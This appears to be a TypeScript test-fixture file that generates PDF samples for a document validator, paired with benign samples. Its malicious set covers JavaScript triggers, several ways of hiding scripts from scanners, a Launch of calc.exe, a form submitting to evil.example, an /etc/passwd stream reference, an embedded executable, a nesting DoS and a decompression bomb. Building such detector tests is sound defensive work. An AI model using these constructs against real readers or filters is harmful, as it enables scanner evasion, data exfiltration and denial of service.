import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';

const PAGE = '/Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]';

type Parts = {
  /** Further entries of the catalog, of the one page, and of the trailer. */
  catalog?: string;
  page?: string;
  trailer?: string;
  pages?: string;
  /** Objects that the table at the end does not list. */
  objects?: string;
  /** Bodies of objects that it lists, numbered from 10. */
  listed?: readonly string[];
};

/** A PDF of one empty page, with whatever else is asked for. */
export const pdf = ({
  catalog = '',
  page = '',
  trailer = '',
  pages = '/Kids[3 0 R]/Count 1',
  objects = '',
  listed = [],
}: Parts = {}): Buffer => {
  const bodies = [
    `1 0 obj<</Type/Catalog/Pages 2 0 R${catalog}>>endobj\n`,
    `2 0 obj<</Type/Pages${pages}>>endobj\n`,
    `3 0 obj<<${PAGE}${page}>>endobj\n`,
    ...listed.map((body, i) => `${i + 10} 0 obj${body}endobj\n`),
  ];
  let text = '%PDF-1.4\n';
  const places = bodies.map((body) => {
    const at = text.length;
    text += body;
    return at;
  });
  text += objects;
  const start = text.length;
  const rows = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`);
  text += `xref\n0 4\n0000000000 65535 f \n${rows.slice(0, 3).join('')}`;
  if (listed.length > 0) text += `10 ${listed.length}\n${rows.slice(3).join('')}`;
  text += `trailer<</Size ${listed.length > 0 ? 10 + listed.length : 4}/Root 1 0 R${trailer}>>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
};

const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';

const linking = (action: string) =>
  pdf({ page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${action}>>]` });
const annotated = (annotation: string) =>
  pdf({ page: `/Annots[<</Type/Annot/Rect[0 0 9 9]${annotation}>>]` });
const FILE = '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>';
const ATTACHED = '5 0 obj<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream endobj\n';

/** As a program changes a file: the old content stays, what is new follows it. */
const revised = (old: Buffer, objects: string) =>
  Buffer.concat([
    old,
    Buffer.from(`\n${objects}trailer<</Size 9/Root 1 0 R>>\n`),
    pdf().subarray(9),
  ]);

/** An object within what a reader of the whole file takes for something else. */
const hidden = (before: string, after: string) => {
  const file = pdf({
    page: '/AA 4 0 R',
    objects: `${before}4 0 obj<</O ${SCRIPT}>>endobj${after}`,
  });
  const text = file.toString('latin1');
  const at = String(text.indexOf('4 0 obj')).padStart(10, '0');
  const listed = text
    .replace('xref\n0 4\n', 'xref\n0 5\n')
    .replace('trailer<</Size 4', `${at} 00000 n \ntrailer<</Size 5`);
  return Buffer.from(listed, 'latin1');
};

const pages = (count: number, last: string) => {
  const kids = Array.from({ length: count - 1 }, (_, i) => `${i + 10} 0 R`).join(' ');
  const listed = Array<string>(count - 1).fill(`<<${PAGE}>>`);
  return pdf({ pages: `/Kids[${kids} 3 0 R]/Count ${count}`, listed, page: last });
};

/** Each of these holds a program or another file, or leads to one. */
export const ACTIVE_PDFS: Readonly<Record<string, () => Buffer>> = {
  'a script that runs when it opens': () => pdf({ catalog: `/OpenAction ${SCRIPT}` }),
  'a script that runs when it closes': () => pdf({ catalog: `/AA<</WC ${SCRIPT}>>` }),
  'a named script': () => pdf({ catalog: `/Names<</JavaScript<</Names[(a)${SCRIPT}]>>>>` }),
  'a script on its page': () => pdf({ page: `/AA<</O ${SCRIPT}>>` }),
  'a script on page 101': () => pages(101, `/AA<</O ${SCRIPT}>>`),
  'a script in a link': () => linking(SCRIPT),
  'a script in a link behind page 100': () =>
    pages(102, `/Annots[<</Subtype/Link/Rect[0 0 9 9]/A${SCRIPT}>>]`),
  'a script in an outline': () =>
    pdf({ catalog: `/Outlines<</First<</Title(a)/A${SCRIPT}>>/Count 1>>` }),
  'a script in a field': () =>
    pdf({ catalog: `/AcroForm<</Fields[<</FT/Tx/T(a)/AA<</K ${SCRIPT}>>>>]>>` }),
  'a script behind a step within the file': () =>
    linking(`<</S/GoTo/D[3 0 R/Fit]/Next ${SCRIPT}>>`),
  'a script with an escaped name': () => linking('<</S/J#61vaScript/J#53(app.alert\\(1\\))>>'),
  'a script that nothing leads to': () => pdf({ objects: `4 0 obj${SCRIPT}endobj\n` }),
  'a script in an older revision': () =>
    revised(pdf({ objects: `4 0 obj${SCRIPT}endobj\n` }), '4 0 obj null endobj\n'),
  'a script in an object stream': () => packedPdf({ catalog: `/OpenAction ${SCRIPT}` }),
  'a script within a comment': () => hidden('% ', '\n'),
  'a script within a stream': () => hidden('6 0 obj<</Length 80>>stream\n', '\nendstream endobj\n'),
  'a program to start': () => linking('<</S/Launch/F(calc.exe)>>'),
  'a form that sends itself': () => linking('<</S/SubmitForm/F(https://evil.example)>>'),
  'a form that fills itself': () => linking('<</S/ImportData/F(a.fdf)>>'),
  'a way to another file': () => linking('<</S/GoToR/F(other.pdf)/D[0/Fit]>>'),
  'a way into a file within': () => linking('<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>'),
  'a film to play': () => linking('<</S/Rendition/OP 0>>'),
  'a sound to play': () => linking('<</S/Sound/Sound 5 0 R>>'),
  'an old film': () => annotated('/Subtype/Movie/Movie<</F(a.avi)>>'),
  'a rich medium': () => annotated('/Subtype/RichMedia'),
  'a model in three dimensions': () => annotated('/Subtype/3D'),
  'an action that nobody knows': () => linking('<</Type/Action/S/Run>>'),
  'a form of another language': () => pdf({ catalog: '/AcroForm<</Fields[]/XFA 5 0 R>>' }),
  'a program attached': () =>
    pdf({ catalog: `/Names<</EmbeddedFiles<</Names[(a)${FILE}]>>>>`, objects: ATTACHED }),
  'a program pinned to its page': () =>
    pdf({
      page: `/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS${FILE}>>]`,
      objects: ATTACHED,
    }),
  'a stream in another file': () =>
    pdf({ objects: '4 0 obj<</Length 0/F(/etc/passwd)>>stream\n\nendstream endobj\n' }),
  'a link to a file': () => linking('<</S/URI/URI(file:///c:/windows/calc.exe)>>'),
  'a link that is a script': () => linking('<</S/URI/URI(javascript:alert\\(1\\))>>'),
};

const FIELD = '<</FT/Tx/T(name)/V(Lin)/Subtype/Widget/Rect[0 0 9 9]>>';
const link = (action: string) => `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${action}>>`;

/** What certificates hold beside text. */
export const GOOD_PDFS: Readonly<Record<string, () => Buffer>> = {
  'links to the web, a mailbox, another page': () =>
    pdf({
      page: `/Annots[${[
        link('<</Type/Action/S/URI/URI(https://example.com/a\\(b\\))>>'),
        link('<</S/URI/URI(mailto:a@example.com)>>'),
        link('<</S/GoTo/D[3 0 R/Fit]>>'),
        link('<</S/Named/N/NextPage>>'),
      ].join('')}]`,
      catalog: '/OpenAction<</S/GoTo/D[3 0 R/Fit]>>',
    }),
  'a form without scripts': () => pdf({ catalog: `/AcroForm<</Fields[${FIELD}]>>` }),
  'objects in a stream': () => packedPdf(),
  'a revision': () => revised(pdf(), '4 0 obj(signed)endobj\n'),
  'a hundred and twenty pages': () => pages(120, ''),
};

/** A PDF of one page whose objects lie in a compressed stream, as newer programs write them. */
const packedPdf = ({ catalog = '' } = {}): Buffer => {
  const bodies = [
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<<${PAGE}>>`,
  ];
  let at = 0;
  const places = bodies.map((body, i) => {
    const place = `${i + 1} ${at} `;
    at += body.length + 1;
    return place;
  });
  const first = places.join('').length;
  return withObjectStream(
    Buffer.from(`${places.join('')}${bodies.join(' ')}`),
    first,
    bodies.length,
  );
};

const PADDING = Buffer.from(
  '28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a',
  'hex',
);

const rc4 = (key: Buffer, content: Buffer): Buffer => {
  const state = Uint8Array.from({ length: 256 }, (_, i) => i);
  const swap = (a: number, b: number) => {
    [state[a], state[b]] = [state[b] ?? 0, state[a] ?? 0];
  };
  for (let i = 0, j = 0; i < 256; i += 1) {
    j = (j + (state[i] ?? 0) + (key[i % key.length] ?? 0)) % 256;
    swap(i, j);
  }
  let i = 0;
  let j = 0;
  return Buffer.from(content).map((byte) => {
    i = (i + 1) % 256;
    j = (j + (state[i] ?? 0)) % 256;
    swap(i, j);
    return byte ^ (state[((state[i] ?? 0) + (state[j] ?? 0)) % 256] ?? 0);
  }) as Buffer;
};

const md5 = (...parts: Buffer[]) => createHash('md5').update(Buffer.concat(parts)).digest();

/** Encrypted by the oldest method (PDF 32000 §7.6.3), for opening with a password or without one. */
export const encryptedPdf = (password: string): Buffer => {
  const padded = Buffer.concat([Buffer.from(password), PADDING]).subarray(0, 32);
  const owner = rc4(md5(PADDING).subarray(0, 5), padded);
  const id = Buffer.alloc(16, 7);
  const permissions = Buffer.from([0xfc, 0xff, 0xff, 0xff]);
  const key = md5(padded, owner, permissions, id).subarray(0, 5);
  const user = rc4(key, PADDING);
  const hex = (bytes: Buffer) => `<${bytes.toString('hex')}>`;
  return pdf({
    trailer: `/ID[${hex(id)}${hex(id)}]/Encrypt<</Filter/Standard/V 1/R 2/P -4/O${hex(owner)}/U${hex(user)}>>`,
  });
};

/** A file of nothing but one object stream, whose objects are numbered from 1, and its table. */
const withObjectStream = (inner: Buffer, first: number, count: number): Buffer => {
  const packed = deflateSync(inner, { level: 9 });
  const start = Buffer.from('%PDF-1.5\n');
  const stream = Buffer.concat([
    Buffer.from(
      `5 0 obj<</Type/ObjStm/N ${count}/First ${first}/Filter/FlateDecode/Length ${packed.length}>>stream\n`,
    ),
    packed,
    Buffer.from('\nendstream endobj\n'),
  ]);
  const row = (type: number, at: number, rest: number) => {
    const bytes = Buffer.alloc(6);
    bytes[0] = type;
    bytes.writeUInt32BE(at, 1);
    bytes[5] = rest;
    return bytes;
  };
  const end = start.length + stream.length;
  const rows = Buffer.concat([
    row(0, 0, 0),
    ...Array.from({ length: 4 }, (_, i) => (i < count ? row(2, 5, i) : row(0, 0, 0))),
    row(1, start.length, 0),
    row(1, end, 0),
  ]);
  return Buffer.concat([
    start,
    stream,
    Buffer.from(`6 0 obj<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length ${rows.length}>>stream\n`),
    rows,
    Buffer.from(`\nendstream endobj\nstartxref\n${end}\n%%EOF`),
  ]);
};

/** Brackets that open and never close, one in the other. */
export const nestedPdf = (): Buffer => Buffer.from(`%PDF-1.4\n1 0 obj${'['.repeat(3_000_000)}`);

/** A few hundred kilobytes whose catalog lies at the end of half a gigabyte. */
export const pdfBomb = (): Buffer => {
  const size = 500_000_000;
  const inner = Buffer.alloc(size, ' ');
  inner.write('1 0 2 40 ', 0);
  inner.write('<</Type/Catalog/Pages 2 0 R>>', size - 100);
  return withObjectStream(inner, size - 100, 2);
};
